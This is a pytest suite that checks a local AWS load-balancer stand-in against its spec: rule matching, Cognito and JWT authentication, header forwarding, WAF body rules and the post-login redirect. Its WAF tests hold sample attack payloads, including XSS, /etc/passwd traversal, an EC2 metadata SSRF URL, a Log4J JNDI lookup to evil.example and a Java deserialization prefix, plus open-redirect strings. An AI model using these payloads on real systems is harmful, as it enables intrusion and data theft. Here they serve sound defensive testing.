"""The ALB1 stand-in held to infra/alb1.json and to AWS's documents, rule by rule.

The stand-in's listener runs on loopback in front of an echo target that reports what
reached it (and serves the JWKS the bearer rule checks tokens against); requests go over
real HTTP. Each rule of the file is exercised from the file alone, so a stand-in that
drifts from the file fails here; infra/test/alb1-spec.test.ts holds the CDK app to it.
The echo target and the token signer are test doubles for planb-proxy and Cognito (the
full path, with moto's Cognito and the real binaries, is test_alb1.py).
"""
import asyncio
import base64
import json
import os
import sys
import threading
import time
import types
import uuid
from urllib.parse import urlparse

import jwt
import pytest
import requests
from aiohttp import web
from cryptography.hazmat.primitives.asymmetric import ec, rsa

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))
from alb1 import spec as alb1_spec  # noqa: E402
from alb1.listener import Listener, same_site_path  # noqa: E402
from alb1.oidc_data import DataSigner  # noqa: E402
from alb1.session import COOKIE, shards  # noqa: E402
from alb1.waf import DETECTORS, INSPECTION_LIMIT  # noqa: E402

SPEC = alb1_spec.load()
ISSUER = "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_test"
CLIENT_ID = "client-1"
KID = "rsa-1"
COGNITO = "http://127.0.0.1:9/cognito"  # never called: the login is only redirected to
SUB = "11111111-2222-3333-4444-555555555555"


class Harness:
    """The stand-in's listener and an echo target on loopback, in a thread of their own."""

    def __init__(self):
        self.key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self.log = []
        self.hits = 0
        self.loop = asyncio.new_event_loop()
        self.runners = []
        ready = threading.Event()
        threading.Thread(target=self.run, args=(ready,), daemon=True).start()
        assert ready.wait(30), "the harness did not start"

    def run(self, ready):
        asyncio.set_event_loop(self.loop)
        self.loop.run_until_complete(self.start())
        ready.set()
        self.loop.run_forever()

    async def serve(self, app):
        runner = web.AppRunner(app, access_log=None)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        self.runners.append(runner)
        return f"http://127.0.0.1:{runner.addresses[0][1]}"

    async def start(self):
        echo = web.Application()
        echo.router.add_get("/jwks", self.jwks)
        echo.router.add_route("*", "/{tail:.*}", self.echo)
        self.target = await self.serve(echo)
        cfg = types.SimpleNamespace(
            jwks_url=f"{self.target}/jwks", issuer=ISSUER, client_id=CLIENT_ID, target=self.target,
            listen_port=0, session_timeout=SPEC["listener"]["sessionTimeoutSeconds"],
            cognito_url=COGNITO, cognito_public_url=COGNITO, client_secret="s")
        signer = DataSigner(ec.generate_private_key(ec.SECP256R1()), str(uuid.uuid4()), "arn:aws:elasticloadbalancing:x")
        self.listener = Listener(cfg, signer, self.log.append, SPEC)
        self.url = await self.serve(self.listener.app())

    async def jwks(self, _request):
        jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(self.key.public_key()))
        return web.json_response({"keys": [{**jwk, "kid": KID, "alg": "RS256", "use": "sig"}]})

    async def echo(self, request):
        self.hits += 1
        body = await request.read()
        return web.json_response({"echo": True, "method": request.method, "path": request.path,
                                  "headers": list(request.headers.items()), "body_bytes": len(body)})

    def token(self, **claims):
        """An RS256 access token from the JWKS's key (a Cognito stand-in: the claims are the test's)."""
        now = int(time.time())
        body = {"iss": ISSUER, "sub": SUB, "exp": now + 300, "iat": now, "token_use": "access",
                "client_id": CLIENT_ID, **claims}
        return jwt.encode(body, self.key, algorithm="RS256", headers={"kid": KID})

    def session_cookie(self, session_exp):
        """The Cookie header of a session sealed by the stand-in, ending at `session_exp`."""
        session = {"access_token": self.token(), "id_token": "id", "refresh_token": "r",
                   "claims": {"sub": SUB, "username": "alice"}, "access_exp": time.time() + 300,
                   "session_exp": session_exp}
        parts = shards(self.listener.sealer.seal(session, b"session"))
        return "; ".join(f"{COOKIE}-{i}={p}" for i, p in enumerate(parts))

    def request(self, method, path, **kw):
        self.log.clear()
        r = requests.request(method, f"{self.url}{path}", allow_redirects=False, timeout=10, **kw)
        return r, list(self.log)

    def stop(self):
        async def cleanup():
            for runner in reversed(self.runners):
                await runner.cleanup()
        asyncio.run_coroutine_threadsafe(cleanup(), self.loop).result(30)
        self.loop.call_soon_threadsafe(self.loop.stop)


@pytest.fixture(scope="module")
def alb():
    harness = Harness()
    try:
        yield harness
    finally:
        harness.stop()


def echoed(r):
    """What reached the target (the echo's report), or None when the stand-in answered itself."""
    if r.headers.get("content-type", "").startswith("application/json"):
        data = r.json()
        if data.get("echo"):
            data["headers"] = {k.lower(): v for k, v in data["headers"]}
            return data
    return None


def example(pattern):
    """A value an ALB wildcard pattern matches: each wildcard stands for an `x`."""
    return pattern.replace("*", "x").replace("?", "x")


def rule_request(alb, conditions, authenticated):
    """(method, path, headers) matching `conditions`, signed in (session or valid token) or not."""
    method = (conditions.get("methods") or ["GET"])[0]
    path = example((conditions.get("paths") or ["/page"])[0])
    headers = {}
    header = conditions.get("header")
    if header:
        value = header["values"][0]
        headers[header["name"]] = value.replace("*", alb.token() if authenticated else "not-a-jwt")
    elif authenticated:
        headers["Cookie"] = alb.session_cookie(time.time() + 300)
    return method, path, headers


def taken_by(log):
    """The rule id the stand-in's log names for the one request."""
    assert len(log) == 1, log
    return log[0].split(" rule=")[1].split(":")[0]


RULES = [(r["id"], r) for r in SPEC["listener"]["rules"]]
DEFAULT = ("default", {"id": "default", "conditions": {}, "action": SPEC["listener"]["defaultAction"]})


@pytest.mark.parametrize("rule_id,rule", RULES + [DEFAULT], ids=[i for i, _ in RULES] + ["default"])
@pytest.mark.parametrize("authenticated", [True, False], ids=["signed-in", "anonymous"])
def test_each_rule_of_the_file_takes_its_requests_and_acts_as_it_says(alb, rule_id, rule, authenticated):
    method, path, headers = rule_request(alb, rule["conditions"], authenticated)
    r, log = alb.request(method, path, headers=headers)
    assert taken_by(log) == rule_id, (method, path, log)
    action = rule["action"]
    kind = action["type"]
    if kind == "fixed-response":
        assert (r.status_code, r.text) == (action["statusCode"], action["messageBody"])
        assert r.headers["content-type"].startswith(action["contentType"]) and echoed(r) is None
    elif kind == "forward":
        assert echoed(r) and echoed(r)["path"] == path, r.text
    elif kind == "jwt-validation":
        if authenticated:
            assert echoed(r), r.text
        else:
            assert r.status_code == 401 and r.headers["WWW-Authenticate"].startswith("Bearer") and echoed(r) is None
    elif kind == "authenticate-cognito":
        if authenticated:
            got = echoed(r)
            assert got and got["headers"]["x-amzn-oidc-identity"] == SUB, r.text
            assert {"x-amzn-oidc-accesstoken", "x-amzn-oidc-data"} <= set(got["headers"])
        elif action["onUnauthenticatedRequest"] == "deny":
            assert r.status_code == 401 and echoed(r) is None and "Location" not in r.headers
        elif action["onUnauthenticatedRequest"] == "authenticate":
            to = urlparse(r.headers["Location"])
            assert r.status_code == 302 and to.path.endswith("/oauth2/authorize")
        else:
            assert echoed(r) and "x-amzn-oidc-identity" not in echoed(r)["headers"]
    else:
        pytest.fail(f"the test does not know action type {kind}")


def test_rules_are_evaluated_by_priority_not_by_their_order_in_the_file(alb):
    shuffled = json.loads(json.dumps(SPEC))
    shuffled["listener"]["rules"].reverse()
    for method, path, headers in [("GET", "/metrics", {"Authorization": "Bearer x"}),
                                  ("OPTIONS", "/api/me", {}), ("GET", "/logout", {"Authorization": "Bearer x"})]:
        assert alb_spec_select(shuffled, method, path, headers) == alb_spec_select(SPEC, method, path, headers)


def alb_spec_select(description, method, path, headers):
    from multidict import CIMultiDict
    return alb1_spec.select(description, method, path, CIMultiDict(headers))[0]


# --- expired sessions ---

def test_an_expired_session_is_401_on_the_deny_rule_and_the_login_elsewhere(alb):
    """ELB user guide, "Configure user authentication": with `deny`, AJAX calls get 401 once the
    session cookie has expired; with `authenticate`, the user is sent to log in again."""
    cookie = alb.session_cookie(time.time() - 1)
    r, log = alb.request("GET", "/api/me", headers={"Cookie": cookie})
    assert r.status_code == 401 and echoed(r) is None and "Location" not in r.headers, log
    r, _ = alb.request("GET", "/", headers={"Cookie": cookie})
    assert r.status_code == 302 and urlparse(r.headers["Location"]).path.endswith("/oauth2/authorize")
    # The same session a moment before its end passes.
    r, _ = alb.request("GET", "/api/me", headers={"Cookie": alb.session_cookie(time.time() + 60)})
    assert echoed(r), r.text


# --- header handling per rule ---

FORGED = {"x-amzn-oidc-identity": "someone-else", "x-amzn-oidc-data": "forged.forged.forged",
          "x-amzn-oidc-accesstoken": "forged"}


def test_on_an_authenticated_rule_the_stand_ins_claims_replace_the_clients(alb):
    r, _ = alb.request("GET", "/api/me", headers={**FORGED, "Cookie": alb.session_cookie(time.time() + 60)})
    got = echoed(r)["headers"]
    assert got["x-amzn-oidc-identity"] == SUB and got["x-amzn-oidc-accesstoken"] != "forged"
    assert got["x-amzn-oidc-data"] != FORGED["x-amzn-oidc-data"]


@pytest.mark.parametrize("method,path,bearer_token", [("GET", "/logout", False), ("OPTIONS", "/api/me", False),
                                                      ("GET", "/api/me", True)])
def test_on_forward_and_jwt_rules_a_clients_oidc_headers_pass_unchanged(alb, method, path, bearer_token):
    """AWS documents no removal of a client's x-amzn-oidc-* where ALB adds none: the target gets
    them as sent (so it must never trust them without ALB's signature)."""
    headers = dict(FORGED)
    if bearer_token:
        headers["Authorization"] = f"Bearer {alb.token()}"
    r, _ = alb.request(method, path, headers=headers)
    got = echoed(r)["headers"]
    assert {k: got.get(k) for k in FORGED} == FORGED


def test_invalid_header_names_are_dropped_before_the_rules_and_the_target(alb):
    """routing.http.drop_invalid_header_fields.enabled: names must match [-A-Za-z0-9]+."""
    sent = {"x_amzn_oidc_identity": "someone-else", "Foo.Bar": "1", "X-Good-1": "kept"}
    r, _ = alb.request("GET", "/logout", headers=sent)
    got = echoed(r)["headers"]
    assert got.get("x-good-1") == "kept"
    assert "x_amzn_oidc_identity" not in got and "foo.bar" not in got
    # Not seen by the rules either: a bearer header under an invalid name is no bearer header.
    r, log = alb.request("GET", "/api/me", headers={"Authorization_": f"Bearer {alb.token()}"})
    assert r.status_code == 401 and taken_by(log) != "Bearer", log


# --- claim formats ---

CLAIM = {"format": "single-string", "name": "token_use", "values": ["access"]}


@pytest.mark.parametrize("fmt,value,ok", [
    ("single-string", "access", True),
    ("single-string", "access id", False),
    ("single-string", "id access", False),
    ("single-string", ["access"], False),
    ("single-string", None, False),
    ("space-separated-values", "openid access", True),
    ("space-separated-values", "accessx", False),
    ("string-array", ["id", "access"], True),
    ("string-array", "access", False),
])
def test_claim_formats_as_alb_documents_them(fmt, value, ok):
    assert alb1_spec.claim_matches({**CLAIM, "format": fmt}, value) is ok


@pytest.mark.parametrize("token_use,status", [("access", 200), ("access id", 401), ("id", 401)])
def test_the_bearer_rule_takes_only_the_files_claims(alb, token_use, status):
    r, _ = alb.request("GET", "/api/me", headers={"Authorization": f"Bearer {alb.token(token_use=token_use)}"})
    assert r.status_code == status, r.text


# --- WAF's body rules ---

# What each managed body rule is documented to match (AWS WAF Developer Guide's examples).
TRIPS = {
    "SizeRestrictions_BODY": b'{"text":"' + b"a" * INSPECTION_LIMIT + b'"}',
    "CrossSiteScripting_BODY": b'{"text":"<script>alert(1)</script>"}',
    "GenericLFI_BODY": b'{"file":"../../etc/passwd"}',
    "GenericRFI_BODY": b'{"url":"http://10.0.0.1/x.php"}',
    "EC2MetaDataSSRF_BODY": b'{"url":"http://169.254.169.254/latest/meta-data/"}',
    "Log4JRCE_BODY": b'{"name":"${jndi:ldap://evil.example/a}"}',
    "JavaDeserializationRCE_BODY": b'{"blob":"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"}',
}
BODY_RULES = [rule for group in SPEC["waf"]["managedRuleGroups"] for rule in group.get("bodyRules", [])]
ROUTES = SPEC["waf"]["bodyRoutes"]


def test_every_body_rule_of_the_file_is_applied_locally():
    assert sorted(BODY_RULES) == sorted(DETECTORS) == sorted(TRIPS)


@pytest.mark.parametrize("rule", BODY_RULES)
def test_a_body_aws_would_block_is_403_outside_the_body_routes_before_any_rule(alb, rule):
    token = {"Authorization": f"Bearer {alb.token()}", "Content-Type": "application/json"}
    for method, path in [("POST", "/api/me"), ("POST", "/logout"), ("POST", "/")]:
        before = alb.hits
        r, log = alb.request(method, path, data=TRIPS[rule], headers=token)
        assert r.status_code == 403 and alb.hits == before, (path, log)
        blocked_by, labels = log[0].split(" rule=waf:")[1].split(" ")[0].rstrip(")").split("(")
        assert blocked_by == SPEC["waf"]["outsideBodyRoutesRule"] and rule in labels.split(","), log
    # Without the body rules' patterns the same request passes WAF.
    r, _ = alb.request("POST", "/logout", data=b'{"text":"fine"}', headers=token)
    assert r.status_code != 403 and echoed(r)


@pytest.mark.parametrize("route", ROUTES, ids=[r["name"] for r in ROUTES])
def test_a_body_route_takes_those_bodies_up_to_its_declared_limit(alb, route):
    session = {"Cookie": alb.session_cookie(time.time() + 60), "Content-Type": "application/json"}
    for path in (route["paths"]["exactly"], route["paths"]["startsWith"] + "n1"):
        for rule in BODY_RULES:
            r, log = alb.request("PUT", path, data=TRIPS[rule], headers=session)
            assert echoed(r), (path, rule, log)
    limit = route["maxContentLength"]
    path = route["paths"]["startsWith"] + "n1"
    r, log = alb.request("PUT", path, data=b"a" * limit, headers=session)
    assert echoed(r) and echoed(r)["body_bytes"] == limit, log
    r, log = alb.request("PUT", path, data=b"a" * (limit + 1), headers=session)
    assert r.status_code == 403 and f"waf:{route['overLimitRule']}" in log[0], log
    # A path that only starts like the route is no part of it.
    r, _ = alb.request("PUT", route["paths"]["exactly"] + "x", data=TRIPS["CrossSiteScripting_BODY"], headers=session)
    assert r.status_code == 403


# --- the post-login redirect ---

@pytest.mark.parametrize("target,kept", [
    ("/", True), ("/notes?x=1", True), ("/a/b//c", True),
    ("//evil.example/x", False), ("/\\evil.example", False), ("/\t/evil.example", False),
    ("https://evil.example/", False), ("evil.example", False), ("", False), ("/\x00", False),
])
def test_the_post_login_redirect_is_only_ever_a_same_site_path(target, kept):
    assert same_site_path(target) == (target if kept else "/")


def test_the_login_state_never_holds_an_off_site_location(alb):
    r, _ = alb.request("GET", "//evil.example/x")
    assert r.status_code == 302
    state = dict(p.split("=", 1) for p in urlparse(r.headers["Location"]).query.split("&"))["state"]
    saved = alb.listener.sealer.open(requests.utils.unquote(state), b"state")
    assert saved["url"] == "/" or same_site_path(saved["url"]) == saved["url"], saved


def test_the_stand_in_refuses_a_file_naming_a_body_rule_it_cannot_apply():
    broken = json.loads(json.dumps(SPEC))
    broken["waf"]["managedRuleGroups"][-1]["bodyRules"].append("NewRule_BODY")
    with pytest.raises(ValueError, match="NewRule_BODY"):
        Listener(types.SimpleNamespace(jwks_url="http://127.0.0.1:9/jwks"), None, print, broken)


def test_a_tokens_payload_is_what_the_harness_signed(alb):
    # Guards the harness itself: its tokens carry the file's claim.
    claims = json.loads(base64.urlsafe_b64decode(alb.token().split(".")[1] + "=="))
    assert claims["token_use"] == "access" and claims["iss"] == ISSUER
